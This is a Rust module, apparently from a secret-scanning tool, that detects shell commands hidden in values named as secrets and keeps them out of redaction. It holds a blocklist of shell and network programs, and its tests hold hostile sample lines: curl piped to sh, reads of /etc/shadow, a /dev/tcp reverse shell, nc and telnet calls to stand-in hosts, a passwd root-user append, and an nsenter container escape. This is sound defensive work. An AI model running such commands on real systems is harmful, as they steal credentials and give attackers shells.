//! Commands inside a value that its name calls a secret. Whoever writes `PASSWORD="x$(curl evil | sh)"`
//! has no secret there, but something that runs: it stays, and what stands around it goes.

use std::ops::Range;

use crate::detect::classify;

/// Programs that nobody has as the first word of a pass phrase with a path or an option behind it.
const PROGRAMS: &[&[u8]] = &[
    b"sh",
    b"bash",
    b"zsh",
    b"dash",
    b"ash",
    b"busybox",
    b"nsenter",
    b"chroot",
    b"unshare",
    b"setns",
    b"curl",
    b"wget",
    b"nc",
    b"ncat",
    b"netcat",
    b"socat",
    b"ssh",
    b"scp",
    b"python",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"node",
    b"cat",
    b"cp",
    b"mv",
    b"rm",
    b"dd",
    b"ln",
    b"tar",
    b"find",
    b"tee",
    b"mount",
    b"umount",
    b"chmod",
    b"chown",
    b"chattr",
    b"useradd",
    b"usermod",
    b"crontab",
    b"kubectl",
    b"docker",
    b"crictl",
    b"ctr",
    b"runc",
    b"nerdctl",
    b"systemctl",
    b"kill",
    b"pkill",
    b"eval",
    b"exec",
    b"sudo",
    b"su",
    b"xxd",
    b"iptables",
    b"insmod",
    b"modprobe",
    b"capsh",
    b"strace",
    b"gdb",
    b"apt-get",
    b"apk",
    b"yum",
    b"nohup",
    b"setsid",
    b"source",
    b"head",
    b"tail",
    b"less",
    b"telnet",
    b"awk",
    b"gawk",
    b"mkfifo",
    b"echo",
    b"printf",
    b"xargs",
    b"env",
    b"openssl",
];

/// How many pieces of a text are looked at.
const PIECES: usize = 32;

/// Gives `goes` what of a value goes when commands in it stay, in order. False: no command is in it.
pub(super) fn around(text: &[u8], mut goes: impl FnMut(Range<usize>)) -> bool {
    if memchr::memchr3(b'$', b'`', b' ', text).is_none() {
        return false;
    }
    if let Some(start) = first_command(text) {
        between(text, 0..start, &mut goes);
        return true;
    }
    let (mut at, mut from, mut found) = (0, 0, 0);
    while found < PIECES
        && let Some(skip) = memchr::memchr2(b'$', b'`', &text[at..])
    {
        let start = at + skip;
        let Some((inner, end)) = substitution(text, start) else {
            at = start + 1;
            continue;
        };
        at = end;
        if runs(&text[inner]) {
            between(text, from..start, &mut goes);
            (from, found) = (end, found + 1);
        }
    }
    if found > 0 {
        between(text, from..text.len(), &mut goes);
    }
    found > 0
}

/// What stands between two commands, if it is more than quotes and signs.
fn between(text: &[u8], range: Range<usize>, goes: &mut impl FnMut(Range<usize>)) {
    let part = &text[range.clone()];
    let trims = |b: &u8| b.is_ascii_whitespace() || b"\"'\\;|&".contains(b);
    let lead = part.iter().take_while(|b| trims(b)).count();
    let tail = part[lead..].iter().rev().take_while(|b| trims(b)).count();
    if lead + tail < part.len() {
        goes(range.start + lead..range.end - tail);
    }
}

/// What a substitution that starts at `from` holds, and where it ends. One that is not closed goes to
/// the end: what closes it stands behind the value.
fn substitution(text: &[u8], from: usize) -> Option<(Range<usize>, usize)> {
    if text[from] == b'`' {
        let len = memchr::memchr(b'`', &text[from + 1..])?;
        return Some((from + 1..from + 1 + len, from + 2 + len));
    }
    if text.get(from + 1) != Some(&b'(') {
        return None;
    }
    let mut open = 0usize;
    for (at, byte) in text.iter().enumerate().skip(from + 1) {
        match byte {
            b'(' => open += 1,
            b')' => {
                open -= 1;
                if open == 0 {
                    return Some((from + 2..at, at + 1));
                }
            }
            _ => {}
        }
    }
    Some((from + 2..text.len(), text.len()))
}

/// Whether what a substitution holds is more than the name of a variable.
fn runs(inner: &[u8]) -> bool {
    let blank = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'|' | b'<' | b'/');
    // `$(reboot)`; a variable of Kubernetes has capitals, or a name that says what it holds.
    let word = (2..12).contains(&inner.len()) && inner.iter().all(u8::is_ascii_lowercase);
    inner.trim_ascii().iter().any(blank)
        || memchr::memmem::find(inner, b"{IFS}").is_some()
        || word && !classify(inner).hints()
}

/// `203.0.113.66`, `evil.example`: whom a program talks to. No sentence has a dot in a word.
fn is_host(word: &[u8]) -> bool {
    let mut labels = 0;
    let plain = word.split(|b| *b == b'.').all(|label| {
        labels += 1;
        !label.is_empty() && label.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'-')
    });
    plain && labels > 1
}

/// Where the first piece starts that is a command with a path or an option.
fn first_command(text: &[u8]) -> Option<usize> {
    let mut at = 0;
    text.split(|b| matches!(b, b';' | b'|' | b'&' | b'\n')).take(PIECES).find_map(|piece| {
        let start = at;
        at += piece.len() + 1;
        let quotes = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'\\' | b'(');
        let lead = piece.iter().take_while(|b| quotes(b)).count();
        let mut words =
            piece[lead..].split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
        let first = words.next()?;
        let name = &first[memchr::memrchr(b'/', first).map_or(0, |slash| slash + 1)..];
        let acts = |word: &[u8]| match word {
            [b'-', letter, ..] => letter.is_ascii_alphabetic() || *letter == b'-',
            // Also what it reads and writes: `< /x`, `>> /x`, `3<>/dev/tcp/h/1`.
            [b'/' | b'<' | b'>', ..] => true,
            _ => {
                is_host(word)
                    || [b"://".as_slice(), b"/dev/tcp/"]
                        .iter()
                        .any(|sign| memchr::memmem::find(word, sign).is_some())
            }
        };
        // `/tmp/x -o evil.example`
        let runs_a_file = first[0] == b'/' && first.len() > 3;
        let option =
            |word: &[u8]| matches!(word, [b'-', letter, ..] if letter.is_ascii_alphabetic());
        let runs = PROGRAMS.contains(&name) && words.clone().take(16).any(acts)
            || runs_a_file && words.take(16).any(option);
        runs.then_some(start + lead)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_stay_and_what_is_around_them_goes() {
        for (text, goes) in [
            ("a$(curl http://evil | sh)b", vec!["a", "b"]),
            ("$(cat /etc/shadow)", vec![]),
            ("x$(curl${IFS}http://evil|sh)", vec!["x"]),
            ("hunter2`cat /etc/shadow`", vec!["hunter2"]),
            ("a$(curl http://evil ", vec!["a"]),
            ("x; curl http://evil/p.sh | sh; nsenter -t 1 -m sh", vec!["x"]),
            ("nsenter -t 1 -m -- sh -c id", vec![]),
            ("x$(reboot)", vec!["x"]),
            ("cat /host/etc/shadow", vec![]),
            ("telnet evil.example 443 </etc/shadow", vec![]),
            ("echo r::0:0::/:/bin/sh >> /host/etc/passwd", vec![]),
            ("exec 3<>/dev/tcp/6.6.6.6/443; sh <&3", vec![]),
            ("/tmp/Miner9x -o evil.example", vec![]),
            ("x\nnsenter -t 1 -m sh\n", vec!["x"]),
            ("nc 203.0.113.66 4444", vec![]),
            ("x; nc evil.example 4444", vec!["x"]),
        ] {
            let mut parts = Vec::new();
            assert!(around(text.as_bytes(), |part| parts.push(&text[part])), "{text}");
            assert_eq!(parts, goes, "{text}");
        }
    }

    #[test]
    fn secrets_are_no_commands() {
        for text in [
            "hunter2",
            "pa$$word(1)",
            "$(DB_PASSWORD)x",
            "$(password)x",
            "a`b",
            "cat on a hot tin roof",
            "correct horse battery staple",
            "Server=db;Uid=sa;Pwd=hunter2;curl=1",
            "find me a key",
            "/Vq7xK2mN4p8R5t9 and more",
            "echo of a distant bell",
            "x & y - z",
        ] {
            assert!(!around(text.as_bytes(), |_| ()), "{text}");
        }
    }
}
